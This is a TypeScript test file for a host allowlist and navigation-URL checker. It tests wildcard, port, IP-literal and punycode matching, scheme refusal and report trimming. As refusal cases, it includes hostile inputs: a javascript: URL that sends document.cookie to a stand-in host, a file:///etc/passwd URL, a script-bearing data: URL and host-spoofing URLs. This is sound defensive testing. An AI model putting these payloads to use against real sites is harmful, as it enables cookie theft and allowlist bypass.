import { describe, expect, it } from 'vitest';
import {
  buildAllowedHosts,
  checkNavigationUrl,
  compileHostAllowlist,
  InvalidHostPatternError,
  parseHostPattern,
  trimUrlForReport,
} from './host-patterns.ts';

describe('host patterns', () => {
  const allowlist = compileHostAllowlist([
    'example.com',
    '*.shop.test',
    'api.test:8443',
    '127.0.0.1:3000',
    'bücher.test',
  ]);

  it('allows the exact host on any port, and nothing that only looks like it', () => {
    expect(allowlist.allowsUrl('https://example.com/x')).toBe(true);
    expect(allowlist.allowsUrl('http://example.com:8080/x')).toBe(true);
    expect(allowlist.allowsUrl('wss://example.com/socket')).toBe(true);
    expect(allowlist.allowsUrl('https://www.example.com/')).toBe(false);
    expect(allowlist.allowsUrl('https://example.com.evil.test/')).toBe(false);
    expect(allowlist.allowsUrl('https://evil.test/example.com')).toBe(false);
    expect(allowlist.allowsUrl('https://example.com@evil.test/')).toBe(false);
    expect(allowlist.allowsUrl('https://evil.test/?next=https://example.com')).toBe(false);
    expect(allowlist.allowsUrl('https://notexample.com/')).toBe(false);
  });

  it('matches case-insensitively and ignores a trailing dot', () => {
    expect(allowlist.allowsUrl('HTTPS://EXAMPLE.COM/')).toBe(true);
    expect(allowlist.allowsUrl('https://example.com./')).toBe(true);
    expect(allowlist.allowsUrl('https://evil.test./')).toBe(false);
  });

  it('lets a wildcard match subdomains only, at any depth', () => {
    expect(allowlist.allowsUrl('https://a.shop.test/')).toBe(true);
    expect(allowlist.allowsUrl('https://a.b.shop.test/')).toBe(true);
    expect(allowlist.allowsUrl('https://shop.test/')).toBe(false);
    expect(allowlist.allowsUrl('https://evilshop.test/')).toBe(false);
    expect(allowlist.allowsUrl('https://shop.test.evil.test/')).toBe(false);
  });

  it('restricts to the port of a pattern that has one (default ports count)', () => {
    expect(allowlist.allowsUrl('https://api.test:8443/')).toBe(true);
    expect(allowlist.allowsUrl('https://api.test/')).toBe(false);
    expect(compileHostAllowlist(['api.test:443']).allowsUrl('https://api.test/')).toBe(true);
    expect(compileHostAllowlist(['api.test:443']).allowsUrl('http://api.test/')).toBe(false);
  });

  it('treats IP literals exactly, whatever their spelling', () => {
    expect(allowlist.allowsUrl('http://127.0.0.1:3000/')).toBe(true);
    expect(allowlist.allowsUrl('http://2130706433:3000/')).toBe(true);
    expect(allowlist.allowsUrl('http://0x7f.0.0.1:3000/')).toBe(true);
    expect(allowlist.allowsUrl('http://127.0.0.1:3001/')).toBe(false);
    expect(allowlist.allowsUrl('http://127.0.0.2:3000/')).toBe(false);
    expect(allowlist.allowsUrl('http://[::1]:3000/')).toBe(false);
    expect(compileHostAllowlist(['[::1]:3000']).allowsUrl('http://[0:0::1]:3000/')).toBe(true);
  });

  it('compares internationalised names in punycode', () => {
    expect(allowlist.allowsUrl('https://bücher.test/')).toBe(true);
    expect(allowlist.allowsUrl('https://xn--bcher-kva.test/')).toBe(true);
    expect(allowlist.allowsUrl('https://bucher.test/')).toBe(false);
    expect(parseHostPattern('*.BÜCHER.test').host).toBe('xn--bcher-kva.test');
  });

  it('never allows other schemes as network hosts', () => {
    for (const url of [
      'file:///etc/passwd',
      'data:text/html,hi',
      'ftp://example.com/',
      'blob:https://example.com/1',
      'javascript:alert(1)',
    ])
      expect(allowlist.allowsUrl(url)).toBe(false);
  });

  it('refuses patterns that would allow too much or are not hosts', () => {
    for (const bad of [
      '',
      '*',
      '*.com',
      '*.127.0.0.1',
      'a.*.example.com',
      'example.com/path',
      'user@example.com',
      'example.com:0',
      'example.com:70000',
      'exa mple.com',
    ])
      expect(() => parseHostPattern(bad), bad).toThrow(InvalidHostPatternError);
    expect(parseHostPattern('https://Example.com/')).toMatchObject({
      host: 'example.com',
      wildcard: false,
      port: undefined,
    });
    expect(parseHostPattern('*.example.com:8443')).toMatchObject({
      host: 'example.com',
      wildcard: true,
      port: 8443,
    });
  });

  it('always allows the project host, with its explicit port', () => {
    expect(buildAllowedHosts('http://localhost:5173/app', ['*.cdn.test'])).toEqual([
      'localhost:5173',
      '*.cdn.test',
    ]);
    expect(buildAllowedHosts('https://app.example.com', [])).toEqual(['app.example.com']);
    const own = compileHostAllowlist(buildAllowedHosts('http://localhost:5173/', []));
    expect(own.allowsUrl('http://localhost:5173/x')).toBe(true);
    expect(own.allowsUrl('http://localhost:6006/x')).toBe(false);
  });
});

describe('checkNavigationUrl', () => {
  const allowed = ['app.test', '*.allowed.test'];

  it('accepts http(s) URLs on allowed hosts and about:blank', () => {
    expect(checkNavigationUrl('https://app.test/login', allowed)).toEqual({
      allowed: true,
      url: 'https://app.test/login',
    });
    expect(checkNavigationUrl('http://docs.allowed.test/', allowed).allowed).toBe(true);
    expect(checkNavigationUrl('about:blank', allowed).allowed).toBe(true);
  });

  it.each([
    ['file:///etc/passwd'],
    ['data:text/html,<script>alert(1)</script>'],
    ['javascript:fetch("https://evil.test/?c="+document.cookie)'],
    ['chrome://settings'],
    ['ftp://app.test/file'],
    ['blob:https://app.test/uuid'],
    ['view-source:https://app.test/'],
    ['about:config'],
  ])('refuses %s as a scheme that is not allowed', (url) => {
    const result = checkNavigationUrl(url, allowed);
    expect(result.allowed).toBe(false);
    if (!result.allowed) expect(result.code).toBe('SCHEME_NOT_ALLOWED');
  });

  it('refuses other hosts, and reports them without query, fragment or credentials', () => {
    const result = checkNavigationUrl(
      'https://user:hunter2@evil.test/path?token=abc#frag',
      allowed,
    );
    expect(result).toEqual({
      allowed: false,
      code: 'HOST_NOT_ALLOWED',
      reason: "evil.test is not the project's host or one of the test's allowed domains",
      url: 'https://evil.test/path',
    });
    expect(checkNavigationUrl('https://app.test@evil.test/', allowed).allowed).toBe(false);
    expect(checkNavigationUrl('not a url', allowed)).toMatchObject({
      allowed: false,
      code: 'INVALID_URL',
    });
  });
});

describe('trimUrlForReport', () => {
  it('keeps scheme, host, port and path only', () => {
    expect(trimUrlForReport('https://u:p@evil.test:8443/a/b?token=1#x')).toBe(
      'https://evil.test:8443/a/b',
    );
    expect(trimUrlForReport('wss://evil.test/socket?key=2')).toBe('wss://evil.test/socket');
    expect(trimUrlForReport('data:text/plain,secret')).toBe('data:…');
  });
});
